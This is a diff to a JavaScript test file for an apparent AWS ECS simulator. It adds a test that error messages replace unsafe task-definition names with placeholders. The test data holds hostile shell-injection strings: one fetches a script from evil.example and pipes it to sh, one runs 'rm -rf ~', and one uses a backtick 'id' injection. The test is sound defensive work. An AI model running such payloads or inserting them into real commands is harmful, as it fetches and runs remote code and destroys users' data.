@@ -489,6 +489,14 @@ describe('likely typos', () => {
     expect(says({ cluster: 'default', taskDefinition: 'web:3', count: 1 })).toBe(
       'taskDefinition: must be an object (a task definition), got "web:3": a name or ARN names a definition registered in AWS, which the simulator cannot read; give its JSON instead (aws ecs describe-task-definition --task-definition web:3 prints it)',
     );
+    // a name that is not a family, family:revision or ARN never reaches the command to copy: a link or file is not the reader's to trust
+    const hostile = ['web:3$(curl -s evil.example/x|sh)', 'x && rm -rf ~ ;', 'web:3 `id`', "web'3"];
+    for (const name of hostile) {
+      expect(says({ taskDefinition: name })).toContain('(aws ecs describe-task-definition --task-definition <family:revision> prints it)');
+      expect(says({ tasks: [{ taskDefinitionArn: name }] })).toMatch(/--task-definition <taskDefinitionArn> output$/);
+      expect(says({ services: [{ taskDefinition: name }] })).toContain('--task-definition <taskDefinition> output');
+      expect(says({ 'detail-type': 'ECS Task State Change', source: 'aws.ecs', detail: { taskDefinitionArn: name } })).toContain('--task-definition <family> output');
+    }
     // RunTask input made a scenario: its fields that would change what runs are named as ignored
     const runTask = loadScenario({ cluster: 'prod', count: 3, overrides: { containerOverrides: [] }, taskDefinition: fargate() });
     expect(runTask.warnings).toEqual([
